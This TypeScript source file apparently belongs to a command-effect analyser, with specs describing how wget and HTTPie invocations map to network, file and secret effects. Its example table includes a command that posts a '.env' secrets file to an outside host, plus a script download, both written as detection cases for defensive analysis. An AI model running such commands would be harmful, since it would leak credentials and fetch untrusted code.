/** wget and HTTPie. */
import type { EffectDraft } from '../../../../effects/effect';
import { rest } from '../../arguments';
import { type Call, type ProgramSpec, together } from '../../program';
import type { Run, Word } from '../../spec';
import { reads, sourceOfFile, sourceOfStream, sourceOfWord, when, writes } from '../../stating';
import { carriesData, fetches, network, uploads, writtenByName } from './requests';

export const wget: ProgramSpec = {
  names: 'wget wget2 aria2c axel',
  options:
    '-O,--output-document=FILE -o,--output-file=F -a,--append-output=F -P,--directory-prefix=D -i,--input-file=F --post-data=D --post-file=F --body-data=D --body-file=F --method=M --header=H -U,--user-agent=A --user=U --password=P -t,--tries=N -T,--timeout=S -w,--wait=S -Q,--quota=Q -l,--level=N -A,--accept=L -R,--reject=L -D,--domains=L -I=L -X=L -e,--execute=C --limit-rate=R -B=U --load-cookies=F --save-cookies=F --referer=U --use-askpass=C --ca-certificate=F -d,--dir=D -x=N -s=N -n=N -r,--recursive -np -nc -c,--continue -q,--quiet -nv -S --spider -N -p -k -m,--mirror -E -H -b -v --no-check-certificate --show-progress',
  operandsNeeded: 1,
  does(call) {
    const urls = call.operands;
    const files = call.words('--post-file', '--body-file');
    const sources = [
      ...files.map((word) => sourceOfFile(call, word)),
      ...[
        ...call.words('--post-data', '--body-data'),
        ...[...call.words('--header', '-U', '--referer'), ...urls].filter(carriesData),
      ].map(sourceOfWord),
    ];
    const named = call.words('-O');
    const directory = call.words('-P').at(-1);
    const saved =
      named.length > 0 ? named : writtenByName(urls).map((word) => (directory ? within(directory, word) : word));
    const runs = call
      .words('--use-askpass')
      .map((word): Run => ({ type: 'shell', text: word.value, label: 'wget --use-askpass' }));
    return together(
      { effects: [...fetches(call, urls), ...fetchesListed(call)], runs, output: network },
      reads(call, [...files, ...call.words('-i')], { shown: false }),
      uploads(urls, sources),
      call.has('--spider') === true
        ? []
        : writes(
            call,
            saved.filter((word) => word.value !== '/dev/null'),
            'overwrite',
          ),
    );
  },
  examples: {
    yields: {
      'wget https://example.com/a.tgz': 'net.fetch{host=example.com} + fs.write',
      'wget -qO- https://example.com/i.sh': 'net.fetch',
      'wget -P build https://example.com/a': 'net.fetch + fs.write{path=/repo/build/a}',
      'wget --post-file=.env https://x.test':
        'net.fetch + fs.read + secret.read + net.upload{source=secret} + fs.write',
    },
    inert: ['wget --help'],
  },
};

/** `-i FILE`: addresses that stand in a file, and names that follow from them. */
function fetchesListed(call: Call): EffectDraft[] {
  const zone = call.invocation.surroundings.fileTarget('.', call.invocation.cwd).zone ?? null;
  return when(
    call.words('-i').length > 0,
    { kind: 'net.fetch', host: null },
    { kind: 'fs.write', zone, mode: 'overwrite', extent: 'bounded' },
  );
}

/** A name below a directory. */
function within(directory: Word, name: Word): Word {
  const known = typeof directory.value === 'string' && typeof name.value === 'string';
  return { ...name, value: known ? `${directory.value}/${name.value}` : directory.value };
}

const methods = /^(GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS)$/i;

export const httpie: ProgramSpec = {
  names: 'http https xh xhs',
  options:
    '-a,--auth=A -A=T -o,--output=FILE -p,--print=W -s,--style=S --session=N --timeout=S -d,--download -f,--form -j,--json -v -h -b -F -c --verify=V --pretty=P --proxy=P --check-status --ignore-stdin --raw=D --multipart',
  does(call) {
    const [first, ...others] = call.operands;
    const method =
      typeof first?.value === 'string' && methods.test(first.value) ? first.value.toUpperCase() : undefined;
    const urls = method ? others.slice(0, 1) : call.operands.slice(0, 1);
    const items = method ? others.slice(1) : others;
    const sends = items.filter(
      (word) => typeof word.value !== 'string' || (/[=@]/.test(word.value) && !/==/.test(word.value)),
    );
    const sources = sends.map((word) =>
      /@/.test(String(word.value))
        ? sourceOfFile(call, rest(word, String(word.value).indexOf('@') + 1))
        : sourceOfWord(word),
    );
    const piped = call.invocation.stdin && method !== 'GET' ? [sourceOfStream(call.invocation.stdin)] : [];
    return {
      effects: [
        ...fetches(call, urls),
        ...uploads(urls, [...sources, ...piped]),
        ...when(method === 'DELETE', { kind: 'saas.change', category: 'other', op: 'delete' }),
        ...writes(call, call.words('-o'), 'overwrite'),
      ],
      output: network,
    };
  },
  examples: {
    yields: {
      'http POST x.test a=1': 'net.fetch{host=x.test} + net.upload{source=literal}',
      'http x.test/list': 'net.fetch',
    },
  },
};
